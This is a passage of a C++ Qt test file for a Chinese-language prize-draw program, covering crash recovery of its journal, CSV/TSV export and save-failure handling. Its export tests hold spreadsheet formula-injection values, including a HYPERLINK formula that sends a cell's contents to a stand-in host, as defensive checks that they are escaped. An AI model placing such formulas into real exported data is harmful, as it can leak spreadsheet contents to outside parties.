#include "bignumber.h"
#include "bingowindow.h"
#include "boarddump.h"
#include "cellbutton.h"
#include "files.h"
#include "filesync.h"
#include "frozenfolder.h"
#include "journal.h"
#include "nightrecord.h"
#include "prizelist.h"
#include "prizewindow.h"
#include "prompt.h"
#include "random.h"
#include "recordcontroller.h"
#include "recordwindow.h"
#include "teststage.h"

#include <QAction>
#include <QClipboard>
#include <QFile>
#include <QFileInfo>
#include <QGroupBox>
#include <QGuiApplication>
#include <QHeaderView>
#include <QLabel>
#include <QMenu>
#include <QMenuBar>
#include <QProcess>
#include <QPushButton>
#include <QRadioButton>
#include <QStringEncoder>
#include <QTableWidget>
#include <QTemporaryDir>
#include <QTest>

#include <functional>

#include <csignal>
#ifndef Q_OS_WIN
#include <sys/resource.h>
#endif

namespace {
QStringList prizeList()
{
    QStringList l;
    for (int i = 1; i <= 56; ++i)
        l << (i % 2 ? QStringLiteral("第%1號紀念獎").arg(i) : QStringLiteral("大獎%1").arg(i));
    return l;
}

void flushDeletes()
{
    QCoreApplication::sendPostedEvents(nullptr, QEvent::DeferredDelete);
}

// What the operator sees of the board, beside the rules' state.
QStringList widgetDump(Stage &w)
{
    QStringList out;
    for (int i = 0; i < Board::Cells; ++i)
        out << QStringLiteral("Number(%1) %2 %3")
                   .arg(i)
                   .arg(w.boardWindow().cell(i)->backColour(), 8, 16)
                   .arg(w.boardWindow().marker(i)->isVisibleTo(&w.boardWindow()));
    out << w.boardWindow().findChild<QLabel *>(QStringLiteral("Label3"))->text();
    for (int i = 0; i < 2; ++i)
        out << w.boardWindow().findChild<QGroupBox *>(QStringLiteral("Frame2(%1)").arg(i))->title()
            << QString::number(w.boardWindow().cardButton(i)->isEnabled());
    out << QStringLiteral("start %1").arg(w.boardWindow().startButton()->isEnabled())
        << QStringLiteral("round2 %1")
               .arg(w.boardWindow()
                        .findChild<QRadioButton *>(QStringLiteral("Option1"))
                        ->isChecked());
    if (PrizeWindow *prize = w.windows().prizeWindow(); prize && prize->isVisible()) {
        prize->finishOpening();
        out << QStringLiteral("prize %1 %2")
                   .arg(prize->findChild<BigNumber *>(QStringLiteral("Number"))->number(),
                        prize->findChild<QLabel *>(QStringLiteral("Label1"))->text());
    }
    return out;
}

struct Moment
{
    QStringList board;
    QStringList widgets;
    QList<NightRecord::Entry> record;
};

// Where each line of a journal ends: the header's first, then every change's.
QList<qsizetype> lineEnds(const QByteArray &journal)
{
    QList<qsizetype> ends;
    for (qsizetype at = journal.indexOf('\n'); at >= 0; at = journal.indexOf('\n', at + 1))
        ends << at + 1;
    return ends;
}

// The last stop of a record, as the resume question should name it.
const NightRecord::Entry &lastStop(const QList<NightRecord::Entry> &record)
{
    return *std::find_if(record.rbegin(), record.rend(),
                         [](const auto &e) { return e.drawNo > 0; });
}

// Latin letters in a message, but for the file names it quotes: the system's own text,
// often English, where the operator should read Traditional Chinese.
bool hasLatin(QString message, const QStringList &names)
{
    for (const QString &n : names)
        message.remove(n);
    return message.contains(QRegularExpression(QStringLiteral("[A-Za-z]")));
}

bool hasLatin(const QString &message, const QString &name)
{
    return hasLatin(message, QStringList{name});
}

// RFC 4180: quoted fields, doubled quotes, CR LF between records.
QList<QStringList> parseCsv(const QString &text, QChar separator = u',')
{
    QList<QStringList> rows;
    QStringList row;
    QString field;
    bool quoted = false;
    for (qsizetype i = 0; i < text.size(); ++i) {
        const QChar c = text[i];
        if (quoted) {
            if (c == u'"' && i + 1 < text.size() && text[i + 1] == u'"') {
                field += u'"';
                ++i;
            } else if (c == u'"') {
                quoted = false;
            } else {
                field += c;
            }
        } else if (c == u'"') {
            quoted = true;
        } else if (c == separator) {
            row << field;
            field.clear();
        } else if (c == u'\r' && i + 1 < text.size() && text[i + 1] == u'\n') {
            row << field;
            rows << row;
            row.clear();
            field.clear();
            ++i;
        } else {
            field += c;
        }
    }
    return rows;
}

// The copy read as the CSV is, with tabs and line feeds: a spreadsheet's paste or Python's
// csv module takes a quote that opens a cell the same way.
QList<QStringList> parseTsv(const QString &text)
{
    return parseCsv(QString(text).replace(u'\n', QStringLiteral("\r\n")), u'\t');
}
} // namespace

// Past a file size limit of 100 bytes a write fails as on a full disk (EFBIG rather than
// ENOSPC). Windows has no such limit: the action runs as it is.
void underSizeLimit(bool limited, const std::function<void()> &act)
{
#ifdef Q_OS_WIN
    Q_UNUSED(limited);
    act();
#else
    struct rlimit before;
    ::getrlimit(RLIMIT_FSIZE, &before);
    const auto oldSignal = std::signal(SIGXFSZ, SIG_IGN);
    if (limited) {
        struct rlimit small = before;
        small.rlim_cur = 100;
        ::setrlimit(RLIMIT_FSIZE, &small);
    }
    act();
    ::setrlimit(RLIMIT_FSIZE, &before);
    std::signal(SIGXFSZ, oldSignal);
#endif
}

class TestRecord : public QObject
{
    Q_OBJECT
private Q_SLOTS:
    void init();
    void cleanup();
    void scriptedNight();
    void resumeFromEveryCut();
    void resumedJournalGoesOn();
    void answerNoKeepsTheOldJournal();
    void copyAndSave();
    void exportQuoting_data();
    void exportQuoting();
    void cellsShowMarkupAsText();
    void failedSaveKeepsEarlierFile_data();
    void failedSaveKeepsEarlierFile();
    void menuEntryAndLiveWindow();
    void unwritableJournalWarnsOnce_data();
    void unwritableJournalWarnsOnce();
    void closeBoxSaysWhetherTheNightIsKept_data();
    void closeBoxSaysWhetherTheNightIsKept();
    void journalStaysOffTheMovingLight_data();
    void journalStaysOffTheMovingLight();
    void opensAtBoardScale_data();
    void opensAtBoardScale();
    void resavedList_data();
    void resavedList();
    void damagedJournalAsks_data();
    void damagedJournalAsks();
    void oldJournalThatCannotMove_data();
    void oldJournalThatCannotMove();
    void unusableJournalSaysWhy_data();
    void unusableJournalSaysWhy();
    void bingoAndFullScreenComeBack_data();
    void bingoAndFullScreenComeBack();
    void bingoDrawsStayInTheJournal();
    void resumedPrizeKeepsItsNumber();
    void opensAtTheTopAndClosesByKey_data();
    void opensAtTheTopAndClosesByKey();

private:
    void playNight();
    void spin();
    void card(int stack);
    void note();

    std::unique_ptr<QTemporaryDir> m_dir;
    QString m_giftPath;
    QString m_journalPath;
    QStringList m_refusals;
    QStringList m_questions;
    bool m_answer = true;
    std::unique_ptr<Random> m_random;
    std::unique_ptr<Stage> m_board;
    std::unique_ptr<RecordController> m_controller;
    QList<Moment> m_moments;
    QDateTime m_now;
};

void TestRecord::init()
{
    m_dir = std::make_unique<QTemporaryDir>();
    m_giftPath = m_dir->filePath(QStringLiteral("gift.txt"));
    m_journalPath = m_dir->filePath(QStringLiteral("data/night.journal"));
    writeFile(m_giftPath, prizeList().join(u'\n').toUtf8());
    m_refusals.clear();
    m_questions.clear();
    m_answer = true;
    m_moments.clear();
    m_now = QDateTime(QDate(2024, 1, 19), QTime(19, 30));
    Prompt::setRefuseHandler([this](QWidget *, const QString &t) { m_refusals << t; });
    Prompt::setConfirmHandler([this](QWidget *, const QString &t) {
        m_questions << t;
        return m_answer;
    });
    RecordWindow::setSaveNameProvider({});
    m_random = std::make_unique<Random>();
    m_board = std::make_unique<Stage>(prizeList(), *m_random);
    double seconds = 1000;
    m_board->night().setClock([seconds]() mutable { return seconds += 7.25; });
    m_controller = std::make_unique<RecordController>(m_board->night(), m_board->boardWindow(),
                                                      prizeList(), m_giftPath, m_journalPath);
    m_board->attach(*m_controller);
    m_controller->setClock([this] { return m_now = m_now.addSecs(61); });
}

void TestRecord::cleanup()
{
    m_controller.reset();
    m_board.reset();
    flushDeletes();
    Prompt::setRefuseHandler({});
    Prompt::setConfirmHandler({});
    RecordWindow::setSaveNameProvider({});
}

void TestRecord::note()
{
    m_moments.append({boardDump(m_board->night().board()), widgetDump(*m_board),
                      m_controller->keeper().record().entries()});
}

void TestRecord::spin()
{
    QTest::mouseClick(m_board->boardWindow().startButton(), Qt::LeftButton);
    while (m_board->night().board().timer1Enabled)
        m_board->night().tick();
    note();
}

void TestRecord::card(int stack)
{
    QTest::mouseClick(m_board->boardWindow().cardButton(stack), Qt::LeftButton);
    m_board->windows().prizeWindow()->finishOpening();
    note();
    QTest::mouseClick(
        m_board->windows().prizeWindow()->findChild<QPushButton *>(QStringLiteral("Command1")),
        Qt::LeftButton);
    flushDeletes();
    note();
}

// Stops with cards of both stacks, consolation prizes, a discard by "重新搖獎", right
// clicks, and the change of round while a stop waits for its card.
void TestRecord::playNight()
{
    Stage &w = *m_board;
    spin();
    card(Board::Chance);
    spin();
    card(Board::Fate);
    spin();
    w.boardWindow().findChild<QAction *>(QStringLiteral("redraw"))->trigger();
    note();
    const int idle =
        int(std::find(w.night().board().cells.begin(), w.night().board().cells.end(), Cell::Idle) -
            w.night().board().cells.begin());
    QTest::mouseClick(w.boardWindow().cell(idle), Qt::RightButton);
    note();
    QTest::mouseClick(w.boardWindow().cell(idle), Qt::RightButton);
    note();
    spin();
    card(Board::Chance);
    spin();
    w.boardWindow().findChild<QRadioButton *>(QStringLiteral("Option1"))->click();
    note();
    spin();
    card(Board::Fate);
    spin();
    card(Board::Fate);
}

void TestRecord::scriptedNight()
{
    QList<int> numbers;
    QList<QString> prizes;
    QList<int> corrected;
    QObject::connect(&m_board->night(), &Night::boardChanged, [&](BoardChange c, int index) {
        if (c == BoardChange::Correction)
            corrected << index + 1;
        if (c == BoardChange::Stop)
            numbers << m_board->night().board().stopCell + 1;
        if (c == BoardChange::Card)
            prizes << m_board->night().board().drawnGift;
    });
    playNight();
    QCOMPARE(numbers.size(), 7);
    QCOMPARE(prizes.size(), 5);
    QCOMPARE(corrected.size(), 2);
    QVERIFY(std::any_of(prizes.begin(), prizes.end(),
                        [](const QString &p) { return p.endsWith(QStringLiteral("紀念獎")); }));

    using K = NightRecord::Kind;
    auto at = [](int minutes) {
        return QDateTime(QDate(2024, 1, 19), QTime(19, 30)).addSecs(61 * minutes);
    };
    const QList<NightRecord::Entry> expected = {
        // Each card's prize window, closed by 確 定, is a line of the journal too.
        {K::Stop, 1, numbers[0], 1, Board::Chance, prizes[0], at(1), {}},
        {K::Stop, 2, numbers[1], 1, Board::Fate, prizes[1], at(4), {}},
        {K::Discarded, 3, numbers[2], 1, -1, {}, at(7), {}},
        {K::Correction, 0, corrected.value(0), 1, -1, {}, at(9), QStringLiteral("未抽 → 中獎")},
        {K::Correction, 0, corrected.value(0), 1, -1, {}, at(10), QStringLiteral("中獎 → 保留")},
        {K::Stop, 4, numbers[3], 1, Board::Chance, prizes[2], at(11), {}},
        {K::Discarded, 5, numbers[4], 1, -1, {}, at(14), {}},
        {K::Stop, 6, numbers[5], 2, Board::Fate, prizes[3], at(16), {}},
        {K::Stop, 7, numbers[6], 2, Board::Fate, prizes[4], at(19), {}},
    };
    const QList<NightRecord::Entry> &got = m_controller->keeper().record().entries();
    QCOMPARE(got.size(), expected.size());
    for (qsizetype i = 0; i < got.size(); ++i)
        QVERIFY2(got[i] == expected[i],
                 qPrintable(NightRecord::fields(got[i]).join(u'|') + QStringLiteral(" vs ") +
                            NightRecord::fields(expected[i]).join(u'|')));
    QVERIFY(m_refusals.isEmpty());
}

void TestRecord::resumeFromEveryCut()
{
    playNight();
    const QByteArray journal = readFile(m_journalPath);
    const QList<qsizetype> ends = lineEnds(journal);
    QCOMPARE(ends.size(), m_moments.size() + 1);

    // The journal ends after a line; or the next line is torn by a crash; or the next line
    // is whole but lost its line end, and is kept.
    enum class Cut
    {
        Whole,
        Torn,
        Unended
    };
    for (int k = 0; k < int(m_moments.size()); ++k) {
        for (Cut how : {Cut::Whole, Cut::Torn, Cut::Unended}) {
            const bool torn = how == Cut::Torn;
            if (how == Cut::Unended && k + 2 >= ends.size())
                continue;
            const int got = how == Cut::Unended ? k + 1 : k;
            const QString where =
                QStringLiteral("after entry %1%2")
                    .arg(k + 1)
                    .arg(torn                  ? QStringLiteral(", next one torn")
                         : how == Cut::Unended ? QStringLiteral(", next one without its end")
                                               : QString());
            QTemporaryDir dir;
            const QString path = dir.filePath(QStringLiteral("night.journal"));
            QByteArray cut = journal.left(ends[k + 1]);
            if (torn && k + 2 < ends.size())
                cut += journal.mid(ends[k + 1], (ends[k + 2] - ends[k + 1]) / 2);
            if (how == Cut::Unended)
                cut = journal.left(ends[k + 2] - 1);
            writeFile(path, cut);
            m_questions.clear();
            ProgramStage w(prizeList());
            RecordController rc(w.night(), w.boardWindow(), prizeList(), m_giftPath, path);
            w.attach(rc);
            rc.offerResume();
            w.boardWindow().show();
            QCoreApplication::processEvents(); // the prize window comes back over the board
            const Moment &live = m_moments[got];
            QCOMPARE(m_questions.size(), 1);
            // The last stop kept, as the record of the night saw it.
            const NightRecord::Entry &last = lastStop(live.record);
            QCOMPARE(m_questions[0],
                     QStringLiteral("上次的抽獎尚未結束。\n\n"
                                    "最後保存的是第 %1 次搖獎：號碼 %2，時間 %3。\n\n"
                                    "要繼續上次的抽獎嗎?\n是：從那裡繼續。\n"
                                    "否：重新開始；上次的紀錄檔會改名保存，不會刪除。")
                         .arg(last.drawNo)
                         .arg(last.number)
                         .arg(last.time.toString(QStringLiteral("HH:mm:ss"))));
            const QStringList board = boardDump(w.night().board());
            for (qsizetype i = 0; i < board.size(); ++i)
                QVERIFY2(
                    board[i] == live.board[i],
                    qPrintable(where + u' ' + board[i] + QStringLiteral(" != ") + live.board[i]));
            QCOMPARE(widgetDump(w), live.widgets);
            QVERIFY2(rc.keeper().record().entries() == live.record, qPrintable(where));
            // A torn tail is cut off; a whole line gets its line end.
            QCOMPARE(readFile(path), journal.left(ends[got + 1]));
        }
    }
}

void TestRecord::resumedJournalGoesOn()
{
    playNight();
    const QByteArray journal = readFile(m_journalPath);
    // The last card's line torn: its stop waits for a card again.
    const qsizetype stopEnd = journal.lastIndexOf("\n{\"change\":\"card\"") + 1;
    writeFile(m_journalPath, journal.left(stopEnd + 40));
    const QList<NightRecord::Entry> before = m_moments[m_moments.size() - 3].record;

    ProgramStage w(prizeList());
    RecordController rc(w.night(), w.boardWindow(), prizeList(), m_giftPath, m_journalPath);
    w.attach(rc);
    rc.offerResume();
    QCOMPARE(rc.keeper().record().entries(), before);
    QVERIFY(w.night().board().awaitingPrize); // the last stop waits for its card again
    QTest::mouseClick(w.boardWindow().cardButton(Board::Chance), Qt::LeftButton);
    w.windows().prizeWindow()->finishOpening();

    const Journal::Contents back = Journal::read(readFile(m_journalPath), prizeList());
    QVERIFY(!back.damaged);
    QCOMPARE(back.entries.size(), m_moments.size() - 1);
    QCOMPARE(boardDump(back.entries.last().state), boardDump(w.night().board()));
    QCOMPARE(back.entries.last().change, BoardChange::Card);
}

void TestRecord::answerNoKeepsTheOldJournal()
{
    spin();
    const QByteArray journal = readFile(m_journalPath);
    // That run is over: Windows moves no file another handle holds open.
    m_controller.reset();
    m_answer = false;
    ProgramStage w(prizeList());
    RecordController rc(w.night(), w.boardWindow(), prizeList(), m_giftPath, m_journalPath);
    w.attach(rc);
    rc.offerResume();
    QCOMPARE(m_questions.size(), 1);
    QCOMPARE(w.night().board().drawNo, 1);
    QVERIFY(!QFile::exists(m_journalPath));
    const QStringList kept = QDir(QFileInfo(m_journalPath).path())
                                 .entryList({QStringLiteral("night-*.journal")}, QDir::Files);
    QCOMPARE(kept.size(), 1);
    QCOMPARE(readFile(QFileInfo(m_journalPath).dir().filePath(kept[0])), journal);
    QVERIFY(QRegularExpression(QStringLiteral("^night-\\d{8}-\\d{6}\\.journal$"))
                .match(kept[0])
                .hasMatch());
}

void TestRecord::copyAndSave()
{
    playNight();
    m_board->windows().showRecord();
    RecordWindow *win = m_board->windows().recordWindow();
    QVERIFY(win);
    QCOMPARE(win->windowTitle(), QStringLiteral("抽獎紀錄"));
    const QList<NightRecord::Entry> &entries = m_controller->keeper().record().entries();
    QList<QStringList> expected{NightRecord::header()};
    for (const NightRecord::Entry &e : entries)
        expected << NightRecord::fields(e);
    QCOMPARE(expected[0],
             (QStringList{QStringLiteral("序號"), QStringLiteral("號碼"), QStringLiteral("輪次"),
                          QStringLiteral("卡片"), QStringLiteral("獎品"), QStringLiteral("時間"),
                          QStringLiteral("類別"), QStringLiteral("說明")}));
    QCOMPARE(expected[3][6], QStringLiteral("作廢"));
    QCOMPARE(expected[1][3], QStringLiteral("機會"));
    QCOMPARE(expected[1][5], QStringLiteral("2024-01-19 19:31:01"));

    QGuiApplication::clipboard()->clear();
    QVERIFY(QTest::qWaitForWindowActive(win));
    win->table()->setCurrentCell(1, 4); // the table alone would copy just this cell
    QTest::keyClick(win->table(), Qt::Key_C, Qt::ControlModifier);
    QCOMPARE(parseTsv(QGuiApplication::clipboard()->text()), expected);
    QGuiApplication::clipboard()->clear();
    QTest::mouseClick(win->findChild<QPushButton *>(QStringLiteral("copy")), Qt::LeftButton);
    QCOMPARE(parseTsv(QGuiApplication::clipboard()->text()), expected);

    const QString csv = m_dir->filePath(QStringLiteral("out/紀錄.csv"));
    QDir().mkpath(QFileInfo(csv).path());
    QString suggested;
    RecordWindow::setSaveNameProvider([&](QWidget *, const QString &s) {
        suggested = s;
        return csv;
    });
    QTest::mouseClick(win->findChild<QPushButton *>(QStringLiteral("saveAs")), Qt::LeftButton);
    QVERIFY(suggested.endsWith(QStringLiteral(".csv")));
    const QByteArray bytes = readFile(csv);
    QVERIFY(bytes.startsWith("\xEF\xBB\xBF"));
    QCOMPARE(parseCsv(QString::fromUtf8(bytes.mid(3))), expected);
    QVERIFY(m_refusals.isEmpty());

    // A place that cannot be written is refused, not crashed on.
    RecordWindow::setSaveNameProvider([&](QWidget *, const QString &) {
        return m_dir->filePath(QStringLiteral("no/such/folder/x.csv"));
    });
    QTest::mouseClick(win->findChild<QPushButton *>(QStringLiteral("saveAs")), Qt::LeftButton);
    QCOMPARE(m_refusals.size(), 1);
    // gift.txt stays as it was.
    QCOMPARE(readFile(m_giftPath), prizeList().join(u'\n').toUtf8());
}

void TestRecord::exportQuoting_data()
{
    QTest::addColumn<QString>("prize");
    QTest::addColumn<QString>("inCsv");
    QTest::addColumn<QString>("inTsv");
    QTest::newRow("plain") << QStringLiteral("電視機") << QStringLiteral("電視機")
                           << QStringLiteral("電視機");
    QTest::newRow("comma") << QStringLiteral("筆電,滑鼠") << QStringLiteral("筆電,滑鼠")
                           << QStringLiteral("筆電,滑鼠");
    QTest::newRow("quotes") << QStringLiteral("\"特\"獎") << QStringLiteral("\"特\"獎")
                            << QStringLiteral("\"特\"獎");
    QTest::newRow("tab") << QStringLiteral("A\tB") << QStringLiteral("A\tB")
                         << QStringLiteral("A B");
    QTest::newRow("blanks kept") << QStringLiteral("  獎 ") << QStringLiteral("  獎 ")
                                 << QStringLiteral("  獎 ");
    QTest::newRow("empty prize") << QString() << QString() << QString();
    // A spreadsheet would run these as formulas; an apostrophe in front makes them text.
    const QString link = QStringLiteral("=HYPERLINK(\"http://x.example/?\"&A1,\"領獎\")");
    QTest::newRow("link formula") << link << u'\'' + link << u'\'' + link;
    QTest::newRow("sum") << QStringLiteral("=1+1") << QStringLiteral("'=1+1")
                         << QStringLiteral("'=1+1");
    QTest::newRow("plus") << QStringLiteral("+886 電話卡") << QStringLiteral("'+886 電話卡")
                          << QStringLiteral("'+886 電話卡");
    QTest::newRow("minus") << QStringLiteral("-5% 折價券") << QStringLiteral("'-5% 折價券")
                           << QStringLiteral("'-5% 折價券");
    QTest::newRow("at") << QStringLiteral("@SUM(A1)") << QStringLiteral("'@SUM(A1)")
                        << QStringLiteral("'@SUM(A1)");
    QTest::newRow("leading tab") << QStringLiteral("\t=1+1") << QStringLiteral("'\t=1+1")
                                 << QStringLiteral("' =1+1");
    QTest::newRow("leading CR") << QStringLiteral("\r=1+1") << QStringLiteral("'\r=1+1")
                                << QStringLiteral("' =1+1");
    // A spreadsheet strips the quotes around a pasted cell and leading whitespace first: a
    // formula behind them would run all the same.
    QTest::newRow("quoted formula")
        << QStringLiteral("\"=1+1\"") << QStringLiteral("'\"=1+1\"") << QStringLiteral("'\"=1+1\"");
    QTest::newRow("quoted, blank, minus")
        << QStringLiteral("\" -5\"") << QStringLiteral("'\" -5\"") << QStringLiteral("'\" -5\"");
    QTest::newRow("blank, then a formula")
        << QStringLiteral(" =1+1") << QStringLiteral("' =1+1") << QStringLiteral("' =1+1");
    QTest::newRow("full-width blank, then at")
        << QStringLiteral("\u3000@SUM(A1)") << QStringLiteral("'\u3000@SUM(A1)")
        << QStringLiteral("'\u3000@SUM(A1)");
    QTest::newRow("line feed, then plus")
        << QStringLiteral("\n+1") << QStringLiteral("'\n+1") << QStringLiteral("' +1");
    QTest::newRow("blank, then a tab")
        << QStringLiteral(" \t1") << QStringLiteral("' \t1") << QStringLiteral("'  1");
    QTest::newRow("quoted text") << QStringLiteral("\"頭獎\"") << QStringLiteral("\"頭獎\"")
                                 << QStringLiteral("\"頭獎\"");
    QTest::newRow("only quotes and blanks")
        << QStringLiteral("\" \"") << QStringLiteral("\" \"") << QStringLiteral("\" \"");
    QTest::newRow("equals inside")
        << QStringLiteral("A=B") << QStringLiteral("A=B") << QStringLiteral("A=B");
    QTest::newRow("full-width equals")
        << QStringLiteral("＝1+1") << QStringLiteral("＝1+1") << QStringLiteral("＝1+1");
    // Unquoted in the copy, the quote would run on into the next row.
    QTest::newRow("unmatched leading quote")
        << QStringLiteral("\"大獎A") << QStringLiteral("\"大獎A") << QStringLiteral("\"大獎A");
    QTest::newRow("unmatched quote, then a formula")
        << QStringLiteral("\"=1+1") << QStringLiteral("'\"=1+1") << QStringLiteral("'\"=1+1");
}

void TestRecord::exportQuoting()
{
    QFETCH(QString, prize);
    QFETCH(QString, inCsv);
    QFETCH(QString, inTsv);
    NightRecord r;
    Board before;
    Board after;
    after.drawNo = 2;
    after.stopCell = 9;
    const QDateTime t(QDate(2024, 1, 19), QTime(20, 0, 5));
    r.apply(BoardChange::Stop, 9, before, after, 1, t);
    after.drawnGift = prize;
    r.apply(BoardChange::Card, Board::Fate, before, after, 1, t);
    const QStringList row{QStringLiteral("1"),
                          QStringLiteral("10"),
                          QStringLiteral("第一輪"),
                          QStringLiteral("命運"),
                          prize,
                          QStringLiteral("2024-01-19 20:00:05"),
                          QStringLiteral("搖出"),
                          QString()};
    const QList<QStringList> csv = parseCsv(QString::fromUtf8(r.toCsv().mid(3)));
    QCOMPARE(csv.size(), 2);
    QStringList csvRow = row;
    csvRow[4] = inCsv;
    QCOMPARE(csv[1], csvRow);
    QStringList tsvRow = row;
    tsvRow[4] = inTsv;
    const QList<QStringList> tsv = parseTsv(r.toTsv());
    QCOMPARE(tsv.size(), 2);
    QCOMPARE(tsv[1], tsvRow);
}

// A prize is shown as written in the record too: "<img>" there loads no picture.
void TestRecord::cellsShowMarkupAsText()
{
    const QString picture = m_dir->filePath(QStringLiteral("big.png"));
    QImage big(400, 400, QImage::Format_RGB32);
    big.fill(Qt::red);
    QVERIFY(big.save(picture));
    const QString prize = QStringLiteral("<b>大獎</b><img src=\"%1\">").arg(picture);
    NightRecord r;
    Board before;
    Board after;
    after.drawNo = 2;
    after.stopCell = 3;
    r.apply(BoardChange::Stop, 3, before, after, 1, m_now);
    after.drawnGift = prize;
    r.apply(BoardChange::Card, Board::Chance, before, after, 1, m_now);
    RecordWindow win;
    win.setRecord(r);
    win.show();
    QVERIFY(QTest::qWaitForWindowExposed(&win));
    QCOMPARE(win.table()->item(0, 4)->text(), prize);
    const QSize cell = win.table()->sizeHintForIndex(win.table()->model()->index(0, 4));
    QVERIFY(cell.height() < 100);
    QVERIFY(cell.width() > QFontMetrics(win.table()->font()).horizontalAdvance(prize) / 2);
}

void TestRecord::failedSaveKeepsEarlierFile_data()
{
    QTest::addColumn<QString>("how"); // limit: the disk takes 100 bytes, then no more
    QTest::addColumn<QString>("reason");
    QTest::newRow("disk full half-way") << "limit" << QStringLiteral("檔案太大");
#ifdef Q_OS_WIN
    // QSaveFile tries more than one name first: any reason, so long as it is in Chinese.
    QTest::newRow("no such folder") << "folder" << QString();
#else
    QTest::newRow("no such folder") << "folder" << QStringLiteral("檔案或資料夾不存在");
#endif
}

// A record that did not reach the disk is never reported as saved, and an earlier file
// of that name stays as it was.
void TestRecord::failedSaveKeepsEarlierFile()
{
    QFETCH(QString, how);
    QFETCH(QString, reason);
    playNight();
    m_board->windows().showRecord();
    RecordWindow *win = m_board->windows().recordWindow();
    QVERIFY(win);
    const QString folder = m_dir->filePath(how == QLatin1String("folder") ? QStringLiteral("gone")
                                                                          : QStringLiteral("out"));
    const QString csv = folder + QStringLiteral("/紀錄.csv");
    const QByteArray earlier("earlier record\r\n");
    if (how == QLatin1String("limit")) {
        QVERIFY(QDir().mkpath(folder));
        writeFile(csv, earlier);
    }
    RecordWindow::setSaveNameProvider([&](QWidget *, const QString &) { return csv; });

#ifdef Q_OS_WIN
    if (how == QLatin1String("limit"))
        QSKIP("Windows has no file size limit to set");
#endif
    underSizeLimit(how == QLatin1String("limit"), [&] {
        QTest::mouseClick(win->findChild<QPushButton *>(QStringLiteral("saveAs")), Qt::LeftButton);
    });

    QCOMPARE(m_refusals.size(), 1);
    QVERIFY2(m_refusals[0].startsWith(QStringLiteral("無法儲存抽獎紀錄（") + reason),
             qPrintable(m_refusals[0]));
    QVERIFY(m_refusals[0].contains(QDir::toNativeSeparators(csv)));
    QVERIFY2(!hasLatin(m_refusals[0], QDir::toNativeSeparators(csv)), qPrintable(m_refusals[0]));
    if (how == QLatin1String("limit")) {
        QCOMPARE(readFile(csv), earlier);
        // Nothing half-written is left beside it.
        QCOMPARE(QDir(folder).entryList(QDir::Files | QDir::Hidden),
                 QStringList{QStringLiteral("紀錄.csv")});
    }
}

void TestRecord::menuEntryAndLiveWindow()
{
    QMenu *view = m_board->viewMenu().menu();
    QCOMPARE(m_board->boardWindow().menuBar()->actions().last(), view->menuAction());
    QAction *entry = m_board->boardWindow().findChild<QAction *>(QStringLiteral("record"));
    QVERIFY(entry);
    QCOMPARE(entry->text(), QStringLiteral("抽獎紀錄"));
    QCOMPARE(entry->shortcut(), QKeySequence(QStringLiteral("Ctrl+L")));
    QVERIFY(view->actions().contains(entry));
    QCOMPARE(m_board->boardWindow().menuBar()->actions().size(), 3); // 遊戲, 關於Zentavo, 檢視

    m_board->boardWindow().show();
    QVERIFY(QTest::qWaitForWindowExposed(&m_board->boardWindow()));
    QTest::keyClick(&m_board->boardWindow(), Qt::Key_L, Qt::ControlModifier);
    RecordWindow *win = m_board->windows().recordWindow();
    QVERIFY(win && win->isVisible());
    QCOMPARE(win->table()->rowCount(), 0);
    spin();
    QCOMPARE(win->table()->rowCount(), 1);
    QCOMPARE(win->table()->item(0, 1)->text(),
             QString::number(m_board->night().board().stopCell + 1));
    card(Board::Fate);
    QCOMPARE(win->table()->item(0, 3)->text(), QStringLiteral("命運"));
    entry->trigger();
    QCOMPARE(m_board->windows().recordWindow(), win); // brought forward, not made again
}

void TestRecord::unwritableJournalWarnsOnce_data()
{
    QTest::addColumn<QString>("how");
    QTest::addColumn<QString>("reason"); // in the operator's words, not the system's
#ifdef Q_OS_WIN
    const QString notFolder = QStringLiteral("檔案或資料夾不存在"); // ERROR_PATH_NOT_FOUND
#else
    const QString notFolder = QStringLiteral("路徑中有一部分不是資料夾"); // ENOTDIR
#endif
    QTest::newRow("a file where its folder should be") << "blocked" << notFolder;
    QTest::newRow("disk full") << "limit" << QStringLiteral("檔案太大");
}

void TestRecord::unwritableJournalWarnsOnce()
{
    QFETCH(QString, how);
    QFETCH(QString, reason);
    QString journal = m_journalPath;
    if (how == QLatin1String("blocked")) {
        // A folder where the journal's folder should be is a file: nothing can be written.
        writeFile(m_dir->filePath(QStringLiteral("blocked")), "x");
        journal = m_dir->filePath(QStringLiteral("blocked/night.journal"));
    }
    m_controller.reset();
    m_controller = std::make_unique<RecordController>(m_board->night(), m_board->boardWindow(),
                                                      prizeList(), m_giftPath, journal);
#ifdef Q_OS_WIN
    if (how == QLatin1String("limit"))
        QSKIP("Windows has no file size limit to set");
#endif
    // The journal's header with its 56 prizes is longer than the 100 bytes allowed.
    underSizeLimit(how == QLatin1String("limit"), [&] { spin(); });
    QVERIFY(m_refusals.isEmpty()); // not before the stop is on screen
    QCoreApplication::processEvents();
    QCOMPARE(m_refusals.size(), 1);
    QCOMPARE(m_refusals[0], QStringLiteral("無法寫入抽獎紀錄檔：\n%1\n%2\n\n"
                                           "抽獎照常進行，但程式若意外結束，今晚的抽獎將無法接續。")
                                .arg(journal, reason));
    card(Board::Chance);
    spin();
    QCoreApplication::processEvents();
    QCOMPARE(m_refusals.size(), 1);
    QCOMPARE(m_controller->keeper().record().entries().size(), 2); // the record goes on
    QCOMPARE(m_board->night().board().drawNo, 3);
}

void TestRecord::closeBoxSaysWhetherTheNightIsKept_data()
{
    QTest::addColumn<bool>("unwritable");
    QTest::addColumn<bool>("closingPicture");
    QTest::addColumn<QString>("question");
    const QString kept = QStringLiteral("今晚的抽獎已保存，下次開啟時可以繼續。\n確定要結束嗎?");
    const QString lost = QStringLiteral("今晚的抽獎結果將不會保留。\n確定要結束嗎?");
    QTest::newRow("journal written") << false << false << kept;
    QTest::newRow("journal unwritable") << true << false << lost;
    // The journal keeps the finished night; the next start sets it aside under a dated name.
    QTest::newRow("after the closing picture")
        << false << true << QStringLiteral("今晚的抽獎已經結束，抽獎紀錄已保存。\n確定要結束嗎?");
}

void TestRecord::closeBoxSaysWhetherTheNightIsKept()
{
    QFETCH(bool, unwritable);
    QFETCH(bool, closingPicture);
    QFETCH(QString, question);
    if (unwritable) {
        writeFile(m_dir->filePath(QStringLiteral("blocked")), "x");
        m_controller.reset();
        m_controller = std::make_unique<RecordController>(
            m_board->night(), m_board->boardWindow(), prizeList(), m_giftPath,
            m_dir->filePath(QStringLiteral("blocked/night.journal")));
        m_board->attach(*m_controller);
    }
    m_board->boardWindow().show();
    spin();
    card(Board::Chance);
    if (closingPicture)
